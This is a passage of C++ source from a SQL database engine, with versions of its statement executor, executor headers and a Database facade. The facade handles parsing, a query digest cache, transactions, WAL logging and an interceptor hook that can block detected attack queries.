    case sql::StatementKind::kTruncate: {
      const auto& t = std::get<sql::TruncateStmt>(stmt);
      Table& table = catalog.require(t.table);
      ResultSet out;
      std::vector<size_t> slots;
      table.scan([&](size_t slot, const Row&) {
        slots.push_back(slot);
        return true;
      });
      for (size_t slot : slots) table.erase(slot);
      table.set_auto_increment(1);  // MySQL TRUNCATE resets the counter
      out.affected_rows = static_cast<int64_t>(slots.size());
      return out;
    }
    case sql::StatementKind::kTransaction:
      // Transaction control is the Database facade's job (it owns the
      // snapshot); reaching the executor means the facade was bypassed.
      throw DbError(ErrorCode::kInternal,
                    "transaction statement reached the executor");
    case sql::StatementKind::kExplain: {
      const auto& sel = *std::get<sql::ExplainStmt>(stmt).select;
      ResultSet out;
      out.columns = {"table", "access_path", "index", "key", "pushdown"};
      if (sel.from.empty()) {
        out.rows.push_back({Value(std::string("<none>")),
                            Value(std::string("const")), Value::null(),
                            Value::null(), Value(std::string())});
        return out;
      }
      for (size_t i = 0; i < sel.from.size(); ++i) {
        std::string path = "scan";
        sql::Value index = Value::null();
        sql::Value key = Value::null();
        std::string pushdown;
        if (i == 0 && sel.from.size() == 1 && sel.joins.empty()) {
          const Table& t = catalog.require(sel.from[0].name);
          AccessPlan plan = plan_select_access(t, sel);
          path = access_path_name(plan);
          pushdown = pushdown_flags(plan);
          if (plan.kind != AccessPlan::Kind::kFullScan) {
            key = Value(plan.column);
          }
          if (!plan.index_name.empty()) index = Value(plan.index_name);
        }
        out.rows.push_back({Value(sel.from[i].name), Value(path), index, key,
                            Value(pushdown)});
      }
      for (const auto& j : sel.joins) {
        out.rows.push_back({Value(j.table.name),
                            Value(std::string("scan (join)")), Value::null(),
                            Value::null(), Value(std::string())});
      }
      return out;
    }
  }
  throw DbError(ErrorCode::kInternal, "unreachable statement kind");
}

ResultSet execute_statement(storage::Catalog& catalog, Session& session,
                            const sql::Statement& stmt) {
  ExecContext ctx{catalog, session, txn::kTsMax, nullptr, 0, false};
  return execute_statement(ctx, stmt);
}

}  // namespace septic::engine

// Statement execution against a Catalog. The executor implements
// SELECT (joins, aggregates, GROUP BY/HAVING, ORDER BY, LIMIT, UNION),
// INSERT (multi-row, column lists, defaults, auto-increment), UPDATE,
// DELETE, CREATE TABLE and DROP TABLE.
//
// Execution runs against an ExecContext that decides how table data is
// read and written:
//   - legacy (versioned == false): the seed's direct, unlocked table
//     access. Reads see every live row, writes mutate in place. Used by
//     the engine's DDL path (under the exclusive DDL lock) and by direct
//     embedders/tests that serialize externally.
//   - autocommit (versioned, write_ts > 0): reads resolve against
//     snapshot_ts, writes land in place tagged write_ts. The Database
//     facade serializes writers on the commit mutex and publishes
//     write_ts afterwards.
//   - transactional (versioned, txn != nullptr): reads resolve against the
//     transaction's snapshot and read through its write set
//     (read-own-writes); writes only buffer into the write set. Nothing
//     shared is touched until COMMIT applies the set.
#pragma once

#include "engine/result.h"
#include "engine/session.h"
#include "engine/txn/txn.h"
#include "sqlcore/ast.h"
#include "storage/catalog.h"
#include "storage/wal/redo.h"

namespace septic::engine {

struct ExecContext {
  storage::Catalog& catalog;
  Session& session;
  /// Visibility horizon for versioned reads. txn::kTsMax in legacy mode:
  /// every live row is visible, the pre-MVCC behavior.
  uint64_t snapshot_ts = txn::kTsMax;
  /// Open transaction whose write set overlays reads and absorbs writes;
  /// nullptr when autocommitting.
  txn::Transaction* txn = nullptr;
  /// Commit timestamp stamped onto in-place autocommit writes (0 inside
  /// transactions and in legacy mode).
  uint64_t write_ts = 0;
  /// Selects the versioned (self-locking) table accessors over the legacy
  /// unlocked ones.
  bool versioned = false;
  /// When set, in-place writes (autocommit path) append redo ops here so
  /// the caller can WAL-log the statement. Insert images carry the
  /// resolved auto-increment PK; everything else is pre-coercion (row
  /// coercion is deterministic, so replay converges).
  storage::wal::StatementJournal* journal = nullptr;
};

/// Execute a validated statement in the given context. Throws DbError.
/// `ctx.session` receives last_insert_id updates.
ResultSet execute_statement(ExecContext& ctx, const sql::Statement& stmt);

/// Legacy entry point: unversioned, unlocked table access exactly as
/// before the MVCC layer existed. Callers serialize externally.
ResultSet execute_statement(storage::Catalog& catalog, Session& session,
                            const sql::Statement& stmt);

/// Name-resolution validation only (no execution): checks that referenced
/// tables and columns exist. Throws DbError. This is the "validated by the
/// DBMS" step that precedes the SEPTIC hook.
void validate_statement(const storage::Catalog& catalog,
                        const sql::Statement& stmt);

}  // namespace septic::engine

// Statement execution against a Catalog. The executor implements
// SELECT (joins, aggregates, GROUP BY/HAVING, ORDER BY, LIMIT, UNION),
// INSERT (multi-row, column lists, defaults, auto-increment), UPDATE,
// DELETE, CREATE TABLE and DROP TABLE.
#pragma once

#include "engine/result.h"
#include "engine/session.h"
#include "sqlcore/ast.h"
#include "storage/catalog.h"

namespace septic::engine {

/// Execute a validated statement. Throws DbError on failure. `session`
/// receives last_insert_id updates.
ResultSet execute_statement(storage::Catalog& catalog, Session& session,
                            const sql::Statement& stmt);

/// Name-resolution validation only (no execution): checks that referenced
/// tables and columns exist. Throws DbError. This is the "validated by the
/// DBMS" step that precedes the SEPTIC hook.
void validate_statement(const storage::Catalog& catalog,
                        const sql::Statement& stmt);

}  // namespace septic::engine

#include "engine/database.h"

#include "common/failpoint.h"
#include "common/unicode.h"
#include "engine/error.h"
#include "engine/executor.h"
#include "sqlcore/lexer.h"
#include "sqlcore/parser.h"

namespace septic::engine {

void Database::set_interceptor(std::shared_ptr<QueryInterceptor> interceptor) {
  std::lock_guard lock(mu_);
  interceptor_ = std::move(interceptor);
  // Entries cached under the previous interceptor configuration (or under
  // none) must never be replayed under the new one.
  interceptor_epoch_.fetch_add(1, std::memory_order_release);
  if (interceptor_) interceptor_->attach_digest_cache(digest_cache_);
}

namespace {

/// Last-resort boundary around the interceptor hook. SEPTIC handles its
/// own failures (fail policy), but the engine cannot assume every
/// installed interceptor does: an exception escaping here would otherwise
/// unwind through the server's connection loop as an anonymous
/// std::exception and drop the connection. Convert it into the engine's
/// own error taxonomy instead so the client gets a proper INTERNAL error.
InterceptDecision run_interceptor(QueryInterceptor& interceptor,
                                  const QueryEvent& event) {
  try {
    return interceptor.on_query(event);
  } catch (const DbError&) {
    throw;
  } catch (const std::exception& e) {
    throw DbError(ErrorCode::kInternal,
                  std::string("interceptor failure: ") + e.what());
  } catch (...) {
    throw DbError(ErrorCode::kInternal, "interceptor failure");
  }
}

/// Statement kinds eligible for digest caching: the repeating DML shapes.
/// DDL, SHOW/DESCRIBE/EXPLAIN, and transaction control are rare,
/// schema-coupled, or facade-handled — not worth a cache slot.
bool cacheable_kind(sql::StatementKind kind) {
  switch (kind) {
    case sql::StatementKind::kSelect:
    case sql::StatementKind::kInsert:
    case sql::StatementKind::kUpdate:
    case sql::StatementKind::kDelete:
      return true;
    default:
      return false;
  }
}

}  // namespace

std::optional<ResultSet> Database::try_replay_cached(
    Session& session, const std::string& converted) {
  QueryDigestCache::EntryPtr e = digest_cache_->lookup(converted);
  if (!e) return std::nullopt;

  // Generation gate 1: engine-owned tags (cheap atomics, no lock).
  if (e->interceptor_epoch !=
          interceptor_epoch_.load(std::memory_order_acquire) ||
      e->ddl_version != ddl_version_.load(std::memory_order_acquire)) {
    digest_cache_->erase(converted);
    return std::nullopt;
  }

  // Pin the interceptor under the same transaction check the miss path's
  // validation section performs.
  std::shared_ptr<QueryInterceptor> interceptor;
  {
    std::lock_guard lock(mu_);
    check_txn_conflict_locked(session);
    interceptor = interceptor_;
  }

  // Generation gate 2: interceptor-owned tags. The epoch gate above makes
  // has_verdict and interceptor presence agree except across a racing
  // set_interceptor — treat any disagreement as a miss.
  if (e->has_verdict != (interceptor != nullptr)) {
    digest_cache_->erase(converted);
    return std::nullopt;
  }
  if (interceptor) {
    if (interceptor->generations() != e->generations) {
      digest_cache_->erase(converted);
      return std::nullopt;
    }
    // Replay notification — the interceptor accounts for the query as if
    // on_query ran. The engine calls exactly one of on_query /
    // on_query_replayed per statement, so interceptor stats reconcile
    // exactly even under heavy hit/miss mixes.
    QueryEvent event{*e->parsed, *e->stack, session.id(), session.user()};
    interceptor->on_query_replayed(event, e->decision, e->payload);
  }

  // Execute (the serialized stage), sharing the cached AST: the executor
  // takes the statement by const& and never mutates it. A DDL that raced
  // in after the tag gate re-validates, exactly like the miss path's
  // second validation.
  std::lock_guard lock(mu_);
  check_txn_conflict_locked(session);
  if (ddl_version_.load(std::memory_order_relaxed) != e->ddl_version) {
    validate_statement(catalog_, e->parsed->statement);
  }
  executed_count_.fetch_add(1, std::memory_order_relaxed);
  return execute_statement(catalog_, session, e->parsed->statement);
}

ResultSet Database::execute(Session& session, std::string_view raw_sql) {
  // 1. Character-set conversion (where U+02BC becomes a plain quote) —
  // pure text work, outside the engine lock.
  std::string converted = charset_conversion_
                              ? common::server_charset_convert(raw_sql)
                              : std::string(raw_sql);

  // 1b. Digest-cache fast path: a byte-exact, generation-current entry
  // replays its parse + verdict and skips straight to execution. Bypassed
  // entirely while fault injection is armed — a cached verdict would skip
  // the very failpoint sites a fault test scripts.
  const bool fp_active = common::failpoints::any_armed();
  if (!fp_active) {
    if (std::optional<ResultSet> hit = try_replay_cached(session, converted)) {
      return std::move(*hit);
    }
  }

  // 2+3. Lex, parse — also pure; concurrent connections parse in parallel.
  // The ParsedQuery is heap-shared so a cacheable result can be retained
  // without copying the AST.
  auto parsed = std::make_shared<sql::ParsedQuery>();
  try {
    *parsed = sql::parse(converted);
  } catch (const sql::LexError& e) {
    throw DbError(ErrorCode::kSyntax, std::string("lex error: ") + e.what());
  } catch (const sql::ParseError& e) {
    throw DbError(ErrorCode::kSyntax, std::string("parse error: ") + e.what());
  }
  const sql::StatementKind kind = sql::statement_kind(parsed->statement);

  // Transaction control bypasses the interceptor: BEGIN/COMMIT/ROLLBACK
  // carry no user data and are handled by the facade, which owns the
  // snapshot.
  if (kind == sql::StatementKind::kTransaction) {
    return handle_transaction(session,
                              std::get<sql::TransactionStmt>(parsed->statement));
  }

  // Capture the DDL tag before validation: a schema change racing any
  // later stage leaves the cached entry conservatively stale.
  const uint64_t ddl_tag = ddl_version_.load(std::memory_order_acquire);

  // 4. Validation against the catalog (short lock): the interceptor must
  // only ever see catalog-valid statements, exactly as before.
  std::shared_ptr<QueryInterceptor> interceptor;
  uint64_t epoch_tag = 0;
  {
    std::lock_guard lock(mu_);
    check_txn_conflict_locked(session);
    validate_statement(catalog_, parsed->statement);
    interceptor = interceptor_;
    epoch_tag = interceptor_epoch_.load(std::memory_order_relaxed);
  }

  // 5. Item stack + interceptor (SEPTIC's hook point) — outside the lock:
  // this is the per-query detection fast path, and it scales with client
  // count instead of queueing behind the single-writer engine.
  std::shared_ptr<sql::ItemStack> stack;
  InterceptDecision decision = InterceptDecision::proceed();
  if (interceptor) {
    stack = std::make_shared<sql::ItemStack>(
        sql::build_item_stack(parsed->statement));
    QueryEvent event{*parsed, *stack, session.id(), session.user()};
    decision = run_interceptor(*interceptor, event);
    if (!decision.allow) {
      blocked_count_.fetch_add(1, std::memory_order_relaxed);
      throw DbError(ErrorCode::kBlocked,
                    decision.reason.empty() ? "query dropped by interceptor"
                                            : decision.reason);
    }
  }

  // 5b. Cache the pipeline result: benign statement of a cacheable kind,
  // with either no interceptor installed (parse-only entry) or an
  // interceptor that marked its verdict replayable. Attack verdicts never
  // get here (the reject threw above).
  if (!fp_active && cacheable_kind(kind) &&
      (!interceptor || decision.cacheable)) {
    auto entry = std::make_shared<QueryDigestCache::Entry>();
    entry->parsed = parsed;
    entry->stack = stack;
    entry->has_verdict = interceptor != nullptr;
    entry->decision = decision;
    entry->payload = decision.cache_payload;
    entry->generations = decision.generations;
    entry->interceptor_epoch = epoch_tag;
    entry->ddl_version = ddl_tag;
    entry->cost = estimate_entry_cost(*parsed, stack.get());
    digest_cache_->insert(std::move(entry));
  }

  // 6. Execution (the serialized stage). Re-check transaction ownership
  // and re-validate: a transaction or DDL that raced the unlocked window
  // surfaces as a normal engine error here, never as executor UB.
  std::lock_guard lock(mu_);
  check_txn_conflict_locked(session);
  validate_statement(catalog_, parsed->statement);
  executed_count_.fetch_add(1, std::memory_order_relaxed);
  ResultSet rs = execute_statement(catalog_, session, parsed->statement);
  maybe_bump_ddl_locked(kind);
  return rs;
}

void Database::maybe_bump_ddl_locked(sql::StatementKind kind) {
  switch (kind) {
    case sql::StatementKind::kCreate:
    case sql::StatementKind::kDrop:
    case sql::StatementKind::kTruncate:
    case sql::StatementKind::kCreateIndex:
    case sql::StatementKind::kDropIndex:
      ddl_version_.fetch_add(1, std::memory_order_release);
      break;
    default:
      break;
  }
}

ResultSet Database::execute_admin(std::string_view raw_sql) {
  Session admin("admin");
  return execute(admin, raw_sql);
}

void Database::check_txn_conflict_locked(const Session& session) const {
  if (txn_active_ && session.id() != txn_owner_) {
    throw DbError(ErrorCode::kUnsupported,
                  "another session's transaction is in progress");
  }
}

ResultSet Database::handle_transaction(Session& session,
                                       const sql::TransactionStmt& txn) {
  std::lock_guard lock(mu_);
  switch (txn.op) {
    case sql::TransactionStmt::Op::kBegin:
      if (txn_active_) {
        throw DbError(ErrorCode::kUnsupported,
                      txn_owner_ == session.id()
                          ? "nested transactions are not supported"
                          : "another session's transaction is in progress");
      }
      txn_snapshot_ = catalog_.save_snapshot();
      txn_active_ = true;
      txn_owner_ = session.id();
      return {};
    case sql::TransactionStmt::Op::kCommit:
      if (!txn_active_ || txn_owner_ != session.id()) {
        throw DbError(ErrorCode::kUnsupported, "no transaction to commit");
      }
      txn_active_ = false;
      txn_snapshot_.clear();
      return {};
    case sql::TransactionStmt::Op::kRollback:
      if (!txn_active_ || txn_owner_ != session.id()) {
        throw DbError(ErrorCode::kUnsupported, "no transaction to roll back");
      }
      catalog_.load_snapshot(txn_snapshot_);
      // The snapshot restore may undo DDL executed inside the transaction.
      ddl_version_.fetch_add(1, std::memory_order_release);
      txn_active_ = false;
      txn_snapshot_.clear();
      return {};
  }
  throw DbError(ErrorCode::kInternal, "unreachable transaction op");
}

bool Database::in_transaction() const {
  std::lock_guard lock(mu_);
  return txn_active_;
}

void Database::rollback_if_owner(uint64_t session_id) {
  std::lock_guard lock(mu_);
  if (txn_active_ && txn_owner_ == session_id) {
    catalog_.load_snapshot(txn_snapshot_);
    ddl_version_.fetch_add(1, std::memory_order_release);
    txn_active_ = false;
    txn_snapshot_.clear();
  }
}

namespace {

void bind_select(sql::SelectStmt& sel, const std::vector<sql::Value>& params,
                 size_t& bound);

void bind_expr(sql::Expr& e, const std::vector<sql::Value>& params,
               size_t& bound) {
  if (e.subquery) bind_select(*e.subquery, params, bound);
  if (e.kind == sql::ExprKind::kPlaceholder) {
    if (e.placeholder_index < 0 ||
        static_cast<size_t>(e.placeholder_index) >= params.size()) {
      throw DbError(ErrorCode::kSyntax,
                    "not enough parameters for prepared statement");
    }
    const sql::Value& v = params[static_cast<size_t>(e.placeholder_index)];
    e.kind = sql::ExprKind::kLiteral;
    e.literal = v;
    e.literal_was_quoted = v.type() == sql::ValueType::kString;
    ++bound;
    return;
  }
  for (auto& c : e.children) bind_expr(*c, params, bound);
}

void bind_select(sql::SelectStmt& sel, const std::vector<sql::Value>& params,
                 size_t& bound) {
  for (auto& it : sel.items) {
    if (it.expr) bind_expr(*it.expr, params, bound);
  }
  for (auto& j : sel.joins) {
    if (j.on) bind_expr(*j.on, params, bound);
  }
  if (sel.where) bind_expr(*sel.where, params, bound);
  for (auto& g : sel.group_by) bind_expr(*g, params, bound);
  if (sel.having) bind_expr(*sel.having, params, bound);
  for (auto& o : sel.order_by) bind_expr(*o.expr, params, bound);
  for (auto& u : sel.unions) bind_select(*u.select, params, bound);
}

/// Substitute every placeholder with its bound parameter; returns how many
/// placeholders were bound.
size_t bind_statement(sql::Statement& stmt,
                      const std::vector<sql::Value>& params) {
  size_t bound = 0;
  switch (sql::statement_kind(stmt)) {
    case sql::StatementKind::kSelect:
      bind_select(*std::get<sql::SelectPtr>(stmt), params, bound);
      break;
    case sql::StatementKind::kInsert:
      for (auto& row : std::get<sql::InsertStmt>(stmt).rows) {
        for (auto& v : row) bind_expr(*v, params, bound);
      }
      break;
    case sql::StatementKind::kUpdate: {
      auto& up = std::get<sql::UpdateStmt>(stmt);
      for (auto& a : up.assignments) bind_expr(*a.value, params, bound);
      if (up.where) bind_expr(*up.where, params, bound);
      break;
    }
    case sql::StatementKind::kDelete: {
      auto& del = std::get<sql::DeleteStmt>(stmt);
      if (del.where) bind_expr(*del.where, params, bound);
      break;
    }
    default:
      break;
  }
  return bound;
}

}  // namespace

ResultSet Database::execute_prepared(Session& session,
                                     std::string_view template_sql,
                                     const std::vector<sql::Value>& params) {
  // The TEMPLATE undergoes charset conversion (it is statement text); the
  // bound parameters do not (they travel as typed data in the binary
  // protocol and can never be re-lexed). Conversion, parse, and binding
  // are all pure per-query work and run outside the engine lock.
  std::string converted = charset_conversion_
                              ? common::server_charset_convert(template_sql)
                              : std::string(template_sql);

  sql::ParsedQuery parsed;
  try {
    parsed = sql::parse(converted);
  } catch (const sql::LexError& e) {
    throw DbError(ErrorCode::kSyntax, std::string("lex error: ") + e.what());
  } catch (const sql::ParseError& e) {
    throw DbError(ErrorCode::kSyntax, std::string("parse error: ") + e.what());
  }

  if (sql::statement_kind(parsed.statement) ==
      sql::StatementKind::kTransaction) {
    return handle_transaction(session,
                              std::get<sql::TransactionStmt>(parsed.statement));
  }

  size_t bound = bind_statement(parsed.statement, params);
  if (bound != params.size()) {
    throw DbError(ErrorCode::kSyntax,
                  "parameter count mismatch: statement has " +
                      std::to_string(bound) + " placeholder(s), got " +
                      std::to_string(params.size()));
  }

  std::shared_ptr<QueryInterceptor> interceptor;
  {
    std::lock_guard lock(mu_);
    check_txn_conflict_locked(session);
    validate_statement(catalog_, parsed.statement);
    interceptor = interceptor_;
  }

  if (interceptor) {
    sql::ItemStack stack = sql::build_item_stack(parsed.statement);
    QueryEvent event{parsed, stack, session.id(), session.user()};
    InterceptDecision decision = run_interceptor(*interceptor, event);
    if (!decision.allow) {
      blocked_count_.fetch_add(1, std::memory_order_relaxed);
      throw DbError(ErrorCode::kBlocked,
                    decision.reason.empty() ? "query dropped by interceptor"
                                            : decision.reason);
    }
  }

  std::lock_guard lock(mu_);
  check_txn_conflict_locked(session);
  validate_statement(catalog_, parsed.statement);
  executed_count_.fetch_add(1, std::memory_order_relaxed);
  return execute_statement(catalog_, session, parsed.statement);
}

}  // namespace septic::engine

#include "engine/database.h"

#include <algorithm>

#include "common/failpoint.h"
#include "common/unicode.h"
#include "engine/error.h"
#include "engine/executor.h"
#include "sqlcore/lexer.h"
#include "sqlcore/parser.h"

namespace septic::engine {

namespace wal = storage::wal;

Database::Database(storage::wal::DurableStorage::Options opts) {
  try {
    durable_ = std::make_unique<wal::DurableStorage>(std::move(opts));
    // Recover into a scratch catalog and adopt it only on success; a
    // throw destroys this half-constructed object, so the caller can
    // never observe (or execute against) a partially replayed catalog.
    storage::Catalog recovered;
    recovery_report_ = durable_->recover_into(recovered);
    catalog_ = std::move(recovered);
    ddl_version_.store(recovery_report_.ddl_version,
                       std::memory_order_release);
  } catch (const wal::WalError& e) {
    durable_.reset();
    throw DbError(ErrorCode::kRecovery,
                  std::string("recovery failed: ") + e.what());
  }
}

void Database::set_interceptor(std::shared_ptr<QueryInterceptor> interceptor) {
  {
    std::lock_guard lock(interceptor_mu_);
    interceptor_ = std::move(interceptor);
    // Entries cached under the previous interceptor configuration (or under
    // none) must never be replayed under the new one.
    interceptor_epoch_.fetch_add(1, std::memory_order_release);
    if (interceptor_) interceptor_->attach_digest_cache(digest_cache_);
  }
}

namespace {

/// Last-resort boundary around the interceptor hook. SEPTIC handles its
/// own failures (fail policy), but the engine cannot assume every
/// installed interceptor does: an exception escaping here would otherwise
/// unwind through the server's connection loop as an anonymous
/// std::exception and drop the connection. Convert it into the engine's
/// own error taxonomy instead so the client gets a proper INTERNAL error.
InterceptDecision run_interceptor(QueryInterceptor& interceptor,
                                  const QueryEvent& event) {
  try {
    return interceptor.on_query(event);
  } catch (const DbError&) {
    throw;
  } catch (const std::exception& e) {
    throw DbError(ErrorCode::kInternal,
                  std::string("interceptor failure: ") + e.what());
  } catch (...) {
    throw DbError(ErrorCode::kInternal, "interceptor failure");
  }
}

/// Same boundary around the prepared-EXEC hook (replay accounting plus the
/// data-plane scan of bound values).
InterceptDecision run_interceptor_prepared(QueryInterceptor& interceptor,
                                           const QueryEvent& event,
                                           const InterceptDecision& decision,
                                           const std::vector<sql::Value>& params) {
  try {
    return interceptor.on_prepared_exec(event, decision,
                                        decision.cache_payload, params);
  } catch (const DbError&) {
    throw;
  } catch (const std::exception& e) {
    throw DbError(ErrorCode::kInternal,
                  std::string("interceptor failure: ") + e.what());
  } catch (...) {
    throw DbError(ErrorCode::kInternal, "interceptor failure");
  }
}

/// Statement kinds eligible for digest caching: the repeating DML shapes.
/// DDL, SHOW/DESCRIBE/EXPLAIN, and transaction control are rare,
/// schema-coupled, or facade-handled — not worth a cache slot.
bool cacheable_kind(sql::StatementKind kind) {
  switch (kind) {
    case sql::StatementKind::kSelect:
    case sql::StatementKind::kInsert:
    case sql::StatementKind::kUpdate:
    case sql::StatementKind::kDelete:
      return true;
    default:
      return false;
  }
}

/// Statements that mutate the catalog's structure — executed under the
/// exclusive DDL lock, on the legacy (unlocked) table plane.
bool ddl_kind(sql::StatementKind kind) {
  switch (kind) {
    case sql::StatementKind::kCreate:
    case sql::StatementKind::kDrop:
    case sql::StatementKind::kTruncate:
    case sql::StatementKind::kCreateIndex:
    case sql::StatementKind::kDropIndex:
      return true;
    default:
      return false;
  }
}

/// Statements that mutate row data (autocommit writers serialize on the
/// commit mutex; inside a transaction they buffer into the write set).
bool write_kind(sql::StatementKind kind) {
  switch (kind) {
    case sql::StatementKind::kInsert:
    case sql::StatementKind::kUpdate:
    case sql::StatementKind::kDelete:
      return true;
    default:
      return false;
  }
}

/// Releases the commit clock on every exit path of an autocommit write.
/// Publishing even after a mid-statement constraint error is deliberate:
/// an autocommit statement that failed halfway keeps its partial effects
/// (matching the engine's pre-MVCC behavior), so the versions it already
/// wrote at `ts` must become visible — leaving the clock behind would
/// instead leak them into the NEXT writer's commit.
class PublishOnExit {
 public:
  PublishOnExit(txn::TxnManager& mgr, uint64_t ts) : mgr_(mgr), ts_(ts) {}
  ~PublishOnExit() { mgr_.publish(ts_); }

 private:
  txn::TxnManager& mgr_;
  uint64_t ts_;
};

/// Whether the table a DDL statement targets exists — sampled BEFORE
/// execution so make_ddl_redo can tell a real CREATE/DROP from an
/// IF [NOT] EXISTS no-op (which must log nothing).
bool ddl_target_existed(const storage::Catalog& catalog,
                        const sql::Statement& stmt, sql::StatementKind kind) {
  switch (kind) {
    case sql::StatementKind::kCreate:
      return catalog.find(std::get<sql::CreateTableStmt>(stmt).table) !=
             nullptr;
    case sql::StatementKind::kDrop:
      return catalog.find(std::get<sql::DropTableStmt>(stmt).table) != nullptr;
    default:
      return true;
  }
}

/// The WAL's forward image of one just-executed DDL statement (called
/// AFTER execution: CREATE TABLE serializes the freshly created — empty —
/// table so replay rebuilds the exact schema). nullopt for no-ops.
std::optional<wal::DdlRedo> make_ddl_redo(const storage::Catalog& catalog,
                                          const sql::Statement& stmt,
                                          sql::StatementKind kind,
                                          bool existed_before) {
  wal::DdlRedo redo;
  switch (kind) {
    case sql::StatementKind::kCreate: {
      const auto& ct = std::get<sql::CreateTableStmt>(stmt);
      if (existed_before) return std::nullopt;  // IF NOT EXISTS no-op
      redo.kind = wal::DdlRedo::Kind::kCreateTable;
      redo.table = ct.table;
      redo.schema_block = catalog.save_table_snapshot(ct.table);
      return redo;
    }
    case sql::StatementKind::kDrop: {
      const auto& d = std::get<sql::DropTableStmt>(stmt);
      if (!existed_before) return std::nullopt;  // IF EXISTS no-op
      redo.kind = wal::DdlRedo::Kind::kDropTable;
      redo.table = d.table;
      return redo;
    }
    case sql::StatementKind::kTruncate:
      redo.kind = wal::DdlRedo::Kind::kTruncate;
      redo.table = std::get<sql::TruncateStmt>(stmt).table;
      return redo;
    case sql::StatementKind::kCreateIndex: {
      const auto& ci = std::get<sql::CreateIndexStmt>(stmt);
      redo.kind = wal::DdlRedo::Kind::kCreateIndex;
      redo.table = ci.table;
      redo.index = ci.index_name;
      redo.column = ci.column;
      return redo;
    }
    case sql::StatementKind::kDropIndex: {
      const auto& di = std::get<sql::DropIndexStmt>(stmt);
      redo.kind = wal::DdlRedo::Kind::kDropIndex;
      redo.table = di.table;
      redo.index = di.index_name;
      return redo;
    }
    default:
      return std::nullopt;
  }
}

wal::DdlUndoRedo to_wal_undo(const txn::DdlUndo& u) {
  wal::DdlUndoRedo out;
  switch (u.kind) {
    case txn::DdlUndo::Kind::kDropTable:
      out.kind = wal::DdlUndoRedo::Kind::kDropTable;
      break;
    case txn::DdlUndo::Kind::kRestoreTable:
      out.kind = wal::DdlUndoRedo::Kind::kRestoreTable;
      break;
    case txn::DdlUndo::Kind::kDropIndex:
      out.kind = wal::DdlUndoRedo::Kind::kDropIndex;
      break;
    case txn::DdlUndo::Kind::kCreateIndex:
      out.kind = wal::DdlUndoRedo::Kind::kCreateIndex;
      break;
  }
  out.table = u.table;
  out.index = u.index;
  out.column = u.column;
  out.snapshot = u.snapshot;
  return out;
}

}  // namespace

std::shared_ptr<txn::Transaction> Database::current_txn(
    Session& session) const {
  const std::shared_ptr<txn::Transaction>& t = session.txn();
  if (!t) return nullptr;
  if (!t->active()) {
    // Finished elsewhere (disconnect cleanup raced us, or abort-on-block):
    // drop the stale cache entry.
    session.set_txn(nullptr);
    return nullptr;
  }
  return t;
}

std::optional<ResultSet> Database::try_replay_cached(
    Session& session, const std::string& converted) {
  QueryDigestCache::EntryPtr e = digest_cache_->lookup(converted);
  if (!e) return std::nullopt;

  // Generation gate 1: engine-owned tags (cheap atomics, no lock).
  if (e->interceptor_epoch !=
          interceptor_epoch_.load(std::memory_order_acquire) ||
      e->ddl_version != ddl_version_.load(std::memory_order_acquire)) {
    digest_cache_->erase(converted);
    return std::nullopt;
  }

  std::shared_ptr<QueryInterceptor> interceptor = pinned_interceptor();

  // Generation gate 2: interceptor-owned tags. The epoch gate above makes
  // has_verdict and interceptor presence agree except across a racing
  // set_interceptor — treat any disagreement as a miss.
  if (e->has_verdict != (interceptor != nullptr)) {
    digest_cache_->erase(converted);
    return std::nullopt;
  }
  const bool in_txn = current_txn(session) != nullptr;
  if (interceptor) {
    if (interceptor->generations() != e->generations) {
      digest_cache_->erase(converted);
      return std::nullopt;
    }
    // Replay notification — the interceptor accounts for the query as if
    // on_query ran. The engine calls exactly one of on_query /
    // on_query_replayed per statement, so interceptor stats reconcile
    // exactly even under heavy hit/miss mixes.
    QueryEvent event{*e->parsed, *e->stack, session.id(), session.user(),
                     in_txn};
    interceptor->on_query_replayed(event, e->decision, e->payload);
  }

  // Execute, sharing the cached AST: the executor takes the statement by
  // const& and never mutates it. dispatch_execute re-validates when a DDL
  // raced in after the tag gate, exactly like the miss path.
  return dispatch_execute(session, e->parsed->statement,
                          sql::statement_kind(e->parsed->statement),
                          e->ddl_version);
}

ResultSet Database::dispatch_execute(Session& session,
                                     const sql::Statement& stmt,
                                     sql::StatementKind kind,
                                     uint64_t ddl_tag) {
  std::shared_ptr<txn::Transaction> t = current_txn(session);

  if (t && t->read_only && (write_kind(kind) || ddl_kind(kind))) {
    throw DbError(ErrorCode::kTxnState,
                  "cannot execute a write statement in a READ ONLY "
                  "transaction");
  }

  if (durable_ && (write_kind(kind) || ddl_kind(kind)) &&
      durable_->wal_poisoned()) {
    // An earlier append failed mid-frame and the writer refuses to log
    // anything new (a later record would replay against a recovered
    // state missing the unlogged mutation). Try the healing checkpoint
    // now — it folds the full in-memory state into a durable image and
    // rotates — and only proceed if it worked; executing first and
    // failing at the log would grow the memory/log divergence.
    maybe_checkpoint();
    if (durable_->wal_poisoned()) {
      throw DbError(ErrorCode::kInternal,
                    "WAL writer poisoned by an earlier append failure and "
                    "the healing checkpoint did not run; writes refused");
    }
  }

  if (ddl_kind(kind)) {
    if (t) return execute_ddl_in_txn(session, *t, stmt, kind);
    // Autocommit DDL: exclusive lock, legacy table plane, version bump.
    ResultSet rs;
    uint64_t lsn = 0;
    {
      std::unique_lock ddl(ddl_mu_);
      validate_statement(catalog_, stmt);
      executed_count_.fetch_add(1, std::memory_order_relaxed);
      const bool existed = ddl_target_existed(catalog_, stmt, kind);
      rs = execute_statement(catalog_, session, stmt);
      ddl_version_.fetch_add(1, std::memory_order_release);
      if (durable_) {
        if (auto redo = make_ddl_redo(catalog_, stmt, kind, existed)) {
          lsn = durable_->log_ddl(0, std::move(*redo), {});
        }
      }
    }
    if (durable_) durable_->ack_sync(lsn);
    maybe_checkpoint();
    return rs;
  }

  std::shared_lock ddl(ddl_mu_);
  // A DDL that raced the unlocked pipeline window surfaces as a normal
  // validation error here, never as executor UB.
  if (ddl_version_.load(std::memory_order_acquire) != ddl_tag) {
    validate_statement(catalog_, stmt);
  }
  executed_count_.fetch_add(1, std::memory_order_relaxed);

  if (t) {
    // Transactional: snapshot reads through the write set, writes buffer.
    ExecContext ctx{catalog_, session, t->snapshot_ts, t.get(), 0, true};
    return execute_statement(ctx, stmt);
  }

  if (write_kind(kind)) {
    // Autocommit write: serialize on the commit mutex, read at the current
    // visible timestamp, stamp in-place writes one tick later, publish on
    // the way out. Readers never take this mutex. The redo journal is
    // logged INSIDE the mutex (log order = apply order); the fsync ack
    // waits until every lock is dropped so concurrent committers can pile
    // into one group-commit batch.
    ResultSet rs;
    uint64_t lsn = 0;
    {
      std::lock_guard commit(txn_mgr_.commit_mu());
      const uint64_t snapshot = txn_mgr_.visible_ts();
      wal::StatementJournal journal;
